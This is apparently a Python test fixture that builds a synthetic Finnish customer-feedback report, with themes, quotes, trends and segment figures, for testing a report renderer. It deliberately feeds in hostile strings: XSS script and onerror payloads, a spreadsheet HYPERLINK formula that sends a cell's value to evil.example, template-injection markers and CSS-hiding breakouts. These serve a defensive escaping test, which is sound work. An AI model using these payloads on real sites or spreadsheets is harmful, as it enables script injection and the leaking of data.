"""A report as a Finnish mid-size company would have it, with the ugliest of what customers write among it."""

from __future__ import annotations

import datetime as dt
import importlib.util
import math
from pathlib import Path
from types import ModuleType

from pipeline.documents import content_id
from pipeline.measures import Interval, Score, SegmentShare
from pipeline.report.contract import (
    Change,
    Coverage,
    FailedSource,
    Heading,
    OtherTheme,
    Quote,
    RankedTheme,
    RatingContrast,
    RejectedRow,
    Report,
    RunFacts,
    Side,
    SourceSummary,
    ThemeEvent,
    TrendPoint,
    UnheardTheme,
    Window,
)


def _beside(name: str) -> ModuleType:
    """Import what stands beside this file: tests are no package."""
    spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name(f"{name}.py"))
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


MEASURES = _beside("factory_measures")
RESPONDENTS = 412
INTERVIEWED = 3
LONG = "Tilasin marraskuussa keittiön kalusteet ja siitä alkoi kolmen kuukauden odotus. " * 38
HOSTILE = (
    "<script>alert('xss')</script><img src=x onerror=alert(1)> toimitus myöhässä",
    '=HYPERLINK("http://evil.example/?"&A1;"Klikkaa")',
    "\u202eoikealta vasemmalle\u202c ja مرحبا بالعالم",
    "Ihan 👍🏽👨‍👩‍👧 mutta $x^2$ maksoi 30 $ enemmän {{ 7*7 }} {% raw %}",
    "Lentokonesuihkuturbiinimoottoriapumekaanikkoaliupseerioppilas" * 4,
    LONG,
    "</style></svg><style>*{display:none}</style>",
)

# label, words, respondents of 412, interviewees among them, quotes
THEMES: tuple[tuple[str, str, int, int, tuple[str, ...]], ...] = (
    (
        "Toimitusvarmuus",
        "toimitus myöhästyä luvata aika odottaa tilaus",
        96,
        3,
        (
            "Toimitus myöhästyi kaksi viikkoa, eikä kukaan ilmoittanut mitään.",
            "Luvattu päivä meni ohi ja sain tietää vasta, kun soitin itse numeroon [PUHELIN].",
            "Meillä seisoi asennusporukka tyhjän panttina, kun ovet eivät tulleetkaan.",
            "Nykyään tavara tulee silloin kun luvataan, siitä iso kiitos.",
            "ihan ok mut se toimitusaika on joka kerta eri ku mitä netis lukee",
        ),
    ),
    (
        "Kuulluksi tuleminen",
        "kuunnella asiakas vastata ymmärtää palaute",
        71,
        2,
        (
            "Tuntui, ettei kukaan oikeasti kuunnellut, mitä minulla oli asiaa.",
            "Kerroin saman asian neljälle eri ihmiselle.",
            "Ensimmäistä kertaa minulle soitettiin takaisin ja kysyttiin, miten meni.",
        ),
    ),
    (
        "Puhelinpalvelun jonotus",
        "jonottaa puhelin linja vastata tunti",
        64,
        0,
        ("Jonotin 47 minuuttia ja linja katkesi.", *HOSTILE[:3]),
    ),
    ("Henkilökunnan ystävällisyys", "ystävällinen palvelu myyjä auttaa hymy", 61, 1, HOSTILE[3:]),
    (
        "Opasteet ja kyltit",
        "opaste kyltti löytää ovi parkkipaikka",
        44,
        1,
        ("Noutopiste oli tosi huonosti merkitty, kiersin rakennuksen kahteen kertaan.",),
    ),
    (
        "Laskutus",
        "lasku eräpäivä maksaa laskutuslisä hyvitys",
        39,
        1,
        ("Laskulla oli asennus, jota ei koskaan tehty.",),
    ),
    (
        "Verkkokaupan haku ja suodattimet",
        "verkkokauppa haku tuote sivusto kori",
        35,
        0,
        ("Haku ei löydä tuotetta edes tuotenumerolla.",),
    ),
    ("Asennuksen laatu", "asennus asentaja jälki ruuvi siisti", 31, 2, ("Asentajat siivosivat jälkensä, hienoa!",)),
    ("Hinta", "hinta kallis tarjous alennus halpa", 27, 0, ("Hinnat nousseet ihan hulluna.",)),
    ("Huollon saatavuus", "huolto varaosa aika varata korjaus", 22, 1, ("Huoltoaikaa ei saanut ennen joulua.",)),
    ("Pysäköinti", "pysäköinti paikka auto piha ruuhka", 15, 0, ("Parkkipaikat aina täynnä lauantaisin.",)),
    ("Pakkausmateriaalit", "pakkaus muovi jäte pahvi kierrätys", 11, 0, ("Muovia aivan liikaa.",)),
    (
        "Liikkeiden aukioloajat sunnuntaisin ja arkipyhinä sekä niistä tiedottaminen",
        "aukiolo sunnuntai auki kiinni",
        8,
        0,
        ("Luulin, että olette auki.",),
    ),
    ("<b>Muut</b> & $\\alpha$ =1+1", "muu <i>sana</i> $x$", 5, 0, ()),
)

SEGMENTS = (
    ("Asiakastyyppi", "Kuluttaja", 301),
    ("Asiakastyyppi", "Yritys", 111),
    ("Alue", "Uusimaa", 142),
    ("Alue", "Pirkanmaa", 96),
    ("Alue", "Pohjois-Pohjanmaa", 58),
    ("Alue", "Varsinais-Suomi", 55),
)
LIFTS: dict[tuple[int, str], tuple[Interval | None, float, str]] = {
    (0, "Yritys"): (Interval(estimate=2.2, low=1.5, high=3.1), 0.001, "more"),
    (0, "Kuluttaja"): (Interval(estimate=0.45, low=0.32, high=0.67), 0.001, "less"),
    (4, "Pohjois-Pohjanmaa"): (None, 0.02, "more"),
    (6, "Uusimaa"): (Interval(estimate=9.0, low=1.6, high=48.0), 0.03, "more"),
    (6, "Pirkanmaa"): (Interval(estimate=0.0, low=0.0, high=0.4), 0.04, "less"),
}
# label → heading, link, description, sides of so many respondents
WRITTEN: dict[str, tuple[str, str, str, tuple[tuple[str, int], ...]]] = {
    "Toimitusvarmuus": (
        "Toimitus",
        "Toimitus ja asennus",
        "Tuleeko tilattu silloin kun on luvattu, ja kerrotaanko, jos ei tule.",
        (("myöhästynyt toimitus", 61), ("ilmoitus viivästyksestä", 22), ("toimitus luvattuna päivänä", 9)),
    ),
    "Kuulluksi tuleminen": ("Kuuleminen ja osallistuminen", "Kuuleminen", "Kuunnellaanko asiakasta.", ()),
    "Asennuksen laatu": ("Toimitus", "Toimitus ja asennus", "", (("asennuksen jälki", 20), ("<i>siisti</i>", 1))),
    "Laskutus": ("<u>Laskut</u> & maksaminen", "<s>Laskutus</s>", "</p><script>alert(3)</script>", ()),
    "Opasteet ja kyltit": ("Tilat", "Tilat", "Löytääkö perille.", ()),
}
# first day, last day, answered, complete: fourteen months, the last one not over
PERIODS = tuple(
    (start, end - dt.timedelta(days=1), 61 if n == 13 else 125 + 4 * (n % 5), n < 13)
    for n in range(14)
    for start, end in [
        (dt.date(2025 + (9 + n) // 12, (9 + n) % 12 + 1, 1), dt.date(2025 + (10 + n) // 12, (10 + n) % 12 + 1, 1))
    ]
)
NOBODY = 11  # the period in which nobody answered, in one theme


def interval(part: int, whole: int) -> Interval:
    """Wilson's interval, so that the factory's numbers are as the real ones will be."""
    z, share = 1.96, part / whole
    middle = (share + z * z / (2 * whole)) / (1 + z * z / whole)
    half = z * math.sqrt(share * (1 - share) / whole + z * z / (4 * whole * whole)) / (1 + z * z / whole)
    return Interval(estimate=share, low=max(middle - half, 0.0), high=min(middle + half, 1.0))


def quote(text: str, n: int = 0, *, interview: bool = False) -> Quote:
    return Quote(
        passage_id=content_id("p", text, n),
        document_id=content_id("d", n),
        text=text,
        before="Hei! Olen ollut asiakkaana jo vuosia." if n % 2 else "",
        after="Toivottavasti tähän tulee parannus." if n % 3 else "",
        source="2026-10-06_isännöitsijä.docx" if interview else "asiakaskysely_syksy.csv",
        place="kohdassa 12:40" if interview else f"rivi {n + 2}",
        respondent=content_id("r", n)[:8],
        kind="interview" if interview else "response",
        date=None if n == 4 else dt.date(2026, 8, 3) + dt.timedelta(days=9 * n),
        question="Miten voisimme parantaa palveluamme?" if n == 2 else None,
        rating=None if interview else (4.0, 7.0, 9.5)[n % 3],
        rating_low=None if interview else 0.0,
        rating_high=None if interview else 10.0,
        tone=(None, "negative", "neutral", "positive", "mixed", "wish", "negative")[n % 7],
        strength=0.71,
    )


def change(now: int, before: int, verdict: str, difference: Interval) -> Change:
    return Change(
        difference=difference,
        respondents_now=now,
        respondents_before=before,
        answered_now=139,
        answered_before=141,
        verdict=verdict,
    )


def _change(at: int) -> Change | None:
    if at == 3:
        return None
    if at in {0, 4}:
        return change(42, 24, "grows", Interval(estimate=0.132, low=0.031, high=0.229))
    if at == 5:
        return change(8, 22, "shrinks", Interval(estimate=-0.098, low=-0.173, high=-0.021))
    return change(21, 19, "unclear", Interval(estimate=0.016, low=-0.069, high=0.101))


def _rating(at: int) -> RatingContrast | None:
    if at == 4:
        return None
    verdict = "lower" if at in {0, 1, 2} else "higher" if at == 3 else "unclear"
    gap = {"lower": -2.4, "higher": 1.3, "unclear": -0.2}[verdict]
    return RatingContrast(
        mentioning=7.6 + gap,
        others=7.6,
        difference=None if at == 12 else Interval(estimate=gap, low=gap - 0.6, high=gap + 0.6),
        n_mentioning=80 - 5 * at,
        n_others=300,
        low=0.0,
        high=10.0,
        verdict=verdict,
    )


def _trend(at: int, share: float) -> tuple[TrendPoint, ...]:
    if at == 8:
        return ()
    points = []
    for n, (start, end, answered, complete) in enumerate(PERIODS):
        said = round(answered * share * (0.7 + 0.2 * ((n + at) % 4)))
        nobody = at == 9 and n == NOBODY
        points.append(
            TrendPoint(
                start=start,
                end=end,
                complete=complete,
                respondents=0 if nobody else said,
                answered=0 if nobody else answered,
                share=None if nobody else interval(said, answered),
            )
        )
    return tuple(points)


def _segments(at: int, share: float) -> tuple[SegmentShare, ...]:
    if at == 9:
        return ()
    cells = []
    for n, (segment, value, answered) in enumerate(SEGMENTS):
        said = round(answered * share * (0.6 + 0.25 * ((n + at) % 4)))
        lift, q, verdict = LIFTS.get((at, value), (Interval(estimate=1.1, low=0.7, high=1.6), 0.7, "unclear"))
        cells.append(
            SegmentShare(
                segment=segment,
                value=value,
                respondents=said,
                answered=answered,
                share=interval(said, answered),
                lift=lift,
                q=q,
                verdict=verdict,
            )
        )
    return tuple(cells)


def theme_id(label: str) -> str:
    return content_id("theme", label)


def _sides(label: str, told: tuple[tuple[str, int], ...]) -> tuple[Side, ...]:
    return tuple(
        Side(
            side_id=content_id("side", label, name),
            label=name,
            words=tuple(name.split()),
            respondents=said,
            mentions=said + 2,
            share=interval(said, RESPONDENTS),
        )
        for name, said in told
    )


def theme(at: int) -> RankedTheme:
    label, words, said, interviewed, quotes = THEMES[at]
    share, moved, rating = interval(said, RESPONDENTS), _change(at), _rating(at)
    reach = 100 * share.estimate
    lower = reach * 0.24 if rating and rating.verdict == "lower" else 0.0
    blame = reach * 0.2 if at in {0, 1} else 0.0
    growth = 6.6 if moved and moved.verdict == "grows" else 0.0
    heading, link, description, sides = WRITTEN.get(label, ("", "", "", ()))
    return RankedTheme(
        rank=at + 1,
        theme_id=theme_id(label),
        label=label,
        words=tuple(words.split()),
        respondents=said,
        mentions=round(said * 1.4),
        share=share,
        survey_respondents=said - interviewed,
        interview_respondents=interviewed,
        survey_share=interval(said - interviewed, RESPONDENTS - INTERVIEWED),
        interview_share=interval(interviewed, INTERVIEWED),
        tone=MEASURES.tone(at, said),
        change=moved,
        rating=rating,
        impact=MEASURES.impact(at),
        score=Score(total=reach + blame + lower + growth, reach=reach, blame=blame, rating=lower, growth=growth),
        course=MEASURES.course(at),
        trend=_trend(at, share.estimate),
        segments=_segments(at, share.estimate),
        quotes=tuple(quote(text, n, interview=interviewed > 0 and n == 2) for n, text in enumerate(quotes)),
        kind="codebook" if label in WRITTEN else "discovered",
        heading=heading,
        link=link,
        description=description,
        named_by="codebook" if label in WRITTEN else "model" if at == 9 else "machine",
        born=dt.date(2026, 11, 3) if at == 10 else dt.date(2026, 8, 1) if label in WRITTEN else None,
        is_new=at == 10,
        pinned=at == 8,
        sides=_sides(label, sides),
    )


def _heading(heading: str, link: str, respondents: int, *labels: str) -> Heading:
    ids = tuple(map(theme_id, labels))
    return Heading(
        heading=heading, link=link, themes=ids, respondents=respondents, share=interval(respondents, RESPONDENTS)
    )


def headings() -> tuple[Heading, ...]:
    under = {
        (heading, link): [label for label, told in WRITTEN.items() if told[:2] == (heading, link)]
        for heading, link, _, _ in WRITTEN.values()
    }
    counts = dict(zip(under, (118, 71, 39, 44), strict=True))
    named = [_heading(*place, counts[place], *labels) for place, labels in under.items()]
    return (*named, _heading("", "", 190, *(label for label, *_ in THEMES if label not in WRITTEN)))


def event(
    number: int, kind: str, label: str, *others: str, by: str = "run", day: int = 3, **told: object
) -> ThemeEvent:
    return ThemeEvent(
        number=number,
        at=dt.datetime(2026, 11, day, 2, 1, tzinfo=run_facts().created_at.tzinfo),
        kind=kind,
        theme_id=theme_id(label),
        label=label,
        others=tuple(OtherTheme(theme_id=theme_id(other), label=other) for other in others),
        by=by,
        **told,
    )


def events() -> tuple[ThemeEvent, ...]:
    return (
        event(19, "rejected", "Hinta", by="analyst", day=20),
        event(18, "confirmed", "Hinta", by="analyst", day=20),
        event(17, "confirmed", "Hinta", by="analyst", day=20),
        event(16, "pinned", "Hinta", by="analyst", day=20),
        event(15, "renamed", "<b>Muut</b> & $\\alpha$ =1+1", by="analyst", day=19),
        event(14, "merged", "Kärrynpyörät", "Pysäköinti", by="analyst", day=12),
        event(13, "born", "Pysäköinti", respondents=12, texts=14),
        event(12, "merged", "Laskun <em>virheet</em>", "Laskutus", texts=30, shared=0.8),
        event(11, "split", "Huollon saatavuus", "Asennuksen laatu", texts=34, shared=0.6),
        event(10, "retired", "Palvelu", "Henkilökunnan ystävällisyys", "Puhelinpalvelun jonotus", "Hinta", texts=50),
        event(9, "dormant", "Joululehti", respondents=1, texts=2),
        event(8, "revived", "Pakkausmateriaalit", texts=11, shared=0.4),
    )


def unheard() -> tuple[UnheardTheme, ...]:
    labels = ("Takuu", "Esteettömyys", "Lahjakortit", "<q>Kanta-asiakkuus</q>", "Verkkopalveluun kirjautuminen")
    return tuple(
        UnheardTheme(theme_id=theme_id(label), label=label, heading="Tilat" if n % 2 else "", link="")
        for n, label in enumerate(labels)
    )


def ranked(themes: list[RankedTheme]) -> tuple[RankedTheme, ...]:
    in_order = sorted(themes, key=lambda theme: -theme.score.total)
    return tuple(
        theme.model_copy(update={"rank": rank, "place": MEASURES.place(rank, len(in_order))})
        for rank, theme in enumerate(in_order, start=1)
    )


def run_facts(run_id: str = "20261122T020000-3f9a") -> RunFacts:
    return RunFacts(
        run_id=run_id,
        created_at=dt.datetime(2026, 11, 22, 2, 0, 41, tzinfo=dt.timezone(dt.timedelta(hours=2), "EET")),
        tool_version="0.1.0",
        settings_hash="9f2c41d07ab35e8812cd",
        theme_set_id="5b1f0e9c22aa47d1b3f0",
        model_revisions={"embedder": "kuulluksi-fi-static@1", "lemmatizer": "simplemma==2.0.0"},
    )


def report(run_id: str = "20261122T020000-3f9a", title: str = "Asiakaspalaute, syksy 2026") -> Report:
    """The full one: 14 themes, all that can be missing missing somewhere."""
    themes = ranked([theme(at) for at in range(len(THEMES))])
    return Report(
        title=title,
        run=run_facts(run_id),
        window=Window(start=dt.date(2026, 8, 1), end=dt.date(2026, 11, 14)),
        compared=Window(start=dt.date(2026, 9, 15), end=dt.date(2026, 10, 14)),
        recent=Window(start=dt.date(2026, 10, 15), end=dt.date(2026, 11, 14)),
        coverage=Coverage(
            respondents=RESPONDENTS,
            survey_respondents=409,
            interview_respondents=3,
            documents=431,
            passages=1046,
            assigned=861,
            unassigned=185,
            empty_answers=38,
            other_language={"sv": 11, "en": 2},
            undated=4,
            rejected_rows=3,
            weighted=True,
            design_effect=1.31,
            tones={"negative": 312, "neutral": 401, "positive": 88, "unclear": 60},
            masked={"PUHELIN": 14, "SÄHKÖPOSTI": 9, "HENKILÖTUNNUS": 1, "OSOITE": 6},
        ),
        themes=themes,
        headings=headings(),
        chain=MEASURES.chain(themes),
        contrasts=MEASURES.contrasts(themes),
        deeds=MEASURES.deeds(themes),
        unanswered=tuple(each.theme_id for each in themes[1:6] if each is not themes[2]),
        tone_agreement=MEASURES.agreement(),
        method=MEASURES.method(),
        unheard=unheard(),
        events_since=dt.date(2026, 10, 22),
        events=events(),
        unassigned_quotes=tuple(quote(text, n) for n, text in enumerate(("Kiitos.", "Kahvi oli hyvää.", *HOSTILE[:2]))),
        other_language_quotes=(quote("Leveransen kom en vecka för sent, men personalen var trevlig.", 1),),
        sources=(
            SourceSummary(
                source="asiakaskysely_syksy.csv",
                family="csv",
                documents=428,
                passages=770,
                rejected=3,
                detected=(
                    ("Merkistö", "UTF-8"),
                    ("Erotin", "puolipiste"),
                    ("Vastaussarakkeet", "Vapaa palaute; Miten voisimme parantaa palveluamme?"),
                    ("Arvosana", "Suositteluhalukkuus, asteikko 0–10"),
                ),
            ),
            SourceSummary(
                source="2026-10-06_isännöitsijä.docx",
                family="docx",
                documents=1,
                passages=94,
                rejected=0,
                detected=(("Haastattelija", "Haastattelija (38 % puheenvuoroista on kysymyksiä, 21 % sanoista)"),),
            ),
            SourceSummary(source="<script>alert(2)</script>.csv", family="csv", documents=2, passages=3, rejected=0),
        ),
        rejected=(
            RejectedRow(source="asiakaskysely_syksy.csv", place="rivi 88", reason="Rivillä on liikaa sarakkeita."),
            RejectedRow(
                source="asiakaskysely_syksy.csv", place="rivi 203", reason="Päivämäärää ”31.2.2026” ei ole olemassa."
            ),
        ),
        failed=(FailedSource(source="vanha_aineisto.xlsx", reason="Tiedosto on tyhjä (0 tavua)."),),
        passed_over=(
            FailedSource(source="~$kysely.xlsx", reason="ohjelman lukkotiedosto"),
            FailedSource(source="<i>kopio</i>.csv", reason="sama sisältö kuin tiedostossa asiakaskysely_syksy.csv"),
        ),
    )


def older(report: Report) -> Report:
    """The same as a report before 2.0 told it: neither places nor tones, impacts, courses, deeds or a method."""
    gone = {"place": None, "tone": None, "impact": None, "course": None, "survey_share": None, "interview_share": None}
    themes = tuple(
        each.model_copy(
            update={
                **gone,
                "segments": tuple(
                    cell.model_copy(update={"lift": None, "q": None, "verdict": "unclear"}) for cell in each.segments
                ),
                "quotes": tuple(quote.model_copy(update={"tone": None}) for quote in each.quotes),
            }
        )
        for each in report.themes
    )
    parts = {"chain": (), "contrasts": (), "deeds": (), "unanswered": (), "tone_agreement": None, "method": None}
    return report.model_copy(update={**parts, "themes": themes})


def empty_report() -> Report:
    """All was read, and nothing was said."""
    return Report(
        title="Palauteraportti",
        run=run_facts(),
        window=None,
        compared=None,
        recent=None,
        coverage=Coverage(
            respondents=0,
            survey_respondents=0,
            interview_respondents=0,
            documents=0,
            passages=0,
            assigned=0,
            unassigned=0,
            empty_answers=0,
            other_language={},
            undated=0,
            rejected_rows=0,
            masked={},
        ),
        themes=(),
    )
